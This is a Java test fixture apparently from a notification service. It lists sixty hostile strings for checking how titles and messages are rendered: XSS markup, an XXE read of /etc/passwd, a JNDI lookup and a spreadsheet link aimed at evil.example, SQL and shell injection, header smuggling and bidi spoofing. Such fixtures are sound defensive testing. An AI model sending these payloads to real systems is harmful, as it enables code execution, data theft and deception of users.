package dev.belfry.testing;

import java.util.List;
import java.util.stream.Stream;

/// Texts that somebody sends who hopes that one of the places where they are shown takes them for
/// something else: markup, a template, a header, a command, another writing direction. All are
/// texts that the contract accepts in a title and in a message.
public final class HostileTexts {
  private static final int VARIABLE = 10_000;

  private static final List<String> MARKUP =
      List.of(
          "<img src=x onerror=alert(1)>",
          "</script><script>alert(1)</script>",
          "<svg/onload=alert(1)>",
          "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
          "<a href=\"javascript:alert(1)\">click</a>",
          "<style>*{display:none}</style>",
          "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
          "<template><slot name=x></template></belfry-bell>",
          "\"><b onmouseover=alert(1)>&lt;&amp;&#60;",
          "'><input autofocus onfocus=alert(1)>",
          "<!-- <img title=\"--><img src=x onerror=alert(1)>\">",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<body onload=alert(1)><form action=//evil.example><button>Go</button></form>",
          "<details open ontoggle=alert(1)><summary>x</summary></details>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
          "<ScRiPt >alert(1)</sCrIpT\t>",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");

  private static final List<String> TEMPLATES_AND_COMMANDS =
      List.of(
          "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% 7*7 %}",
          "{{title}} {{{title}}} {{#items}}x{{/items}} {{> mail}}",
          "{count, plural, one {#} other {#}} {0} {x",
          "'{' it''s '}' '",
          "${jndi:ldap://evil.example/a}",
          "T(java.lang.Runtime).getRuntime().exec('id')",
          "'); DROP TABLE notification;--",
          "\\'; SELECT pg_sleep(10); --",
          "$(touch /tmp/x) `touch /tmp/x` | touch /tmp/x; touch /tmp/x",
          "=HYPERLINK(\"//evil.example\",\"click\")",
          "../../../../etc/passwd",
          "{\"type\":\"notification\",\"notification\":{\"id\":\"1\"}}",
          "\"}],\"title\":\"other\"",
          "__proto__ constructor toString",
          "null",
          "%s %n %1$s %d {} \\n",
          "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J");

  private static final List<String> LINES_AND_HEADERS =
      List.of(
          "a\r\nBcc: eve@example.com\r\n\r\n<b>b</b>",
          "a\nContent-Type: text/html\n\n<b>b</b>",
          "a\rb\u000bc\u000cd\u0085e\u2028f\u2029g",
          "a\r\n.\r\nQUIT\r\nb",
          "=?utf-8?B?PGI+?= =?utf-8?Q?=0D=0ABcc:_eve=40example.com?=",
          "--belfry\r\nContent-Disposition: attachment; filename=x.exe\r\n\r\nx",
          "From eve@example.com Mon Nov 23 10:00:00 2026\nFrom me",
          "From: eve <eve@example.com>, \"x\" <x@example.com>\t=20=3D");

  private static final List<String> LETTERS =
      List.of(
          "\u202Egnihtemos \u2066 isolate",
          "\u2069\u2069\u202C evil \u202Dtxt.exe\u2068",
          "\u200Fשלום\u200E \u061Cمرحبا",
          "\uFEFFb\u200Bo\u200Cm\u200D\u00AD",
          "Z\u0351\u0366\u0323\u0300\u0301a\u0322\u0334\u0335l\u0336\u0337g\u0338\u0340o\u0341",
          "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \uD83C\uDDE6\uD83C\uDDF9",
          "\uFDFD \uFFFD \uFFFE \uE000 \uDBFF\uDFFF",
          "раураӏ.com \uFF1Cscript\uFF1E",
          "\u0001\u0002\u0008\u001F\u007F\u009F x");

  private HostileTexts() {}

  /// Sixty of them, each different from the others. The last two are as long as a message may be.
  public static List<String> all() {
    return Stream.of(
            MARKUP.stream(),
            TEMPLATES_AND_COMMANDS.stream(),
            LINES_AND_HEADERS.stream(),
            LETTERS.stream(),
            Stream.of("<b>" + "x".repeat(9_997), "\uD83D\uDE80".repeat(10_000)))
        .flatMap(texts -> texts)
        .toList();
  }

  /// As much of it as a variable may have that a template says in a title and a message. A variable
  /// may be as long as a message, but all words of a template, with its variables, are limited
  /// together, by their bytes.
  public static String variable(String text) {
    int end = Math.min(text.length(), VARIABLE);
    return text.substring(0, Character.isHighSurrogate(text.charAt(end - 1)) ? end - 1 : end);
  }

  /// As much of it as a title may have.
  public static String title(String text) {
    return text.codePointCount(0, text.length()) <= 200
        ? text
        : text.substring(0, text.offsetByCodePoints(0, 200));
  }
}
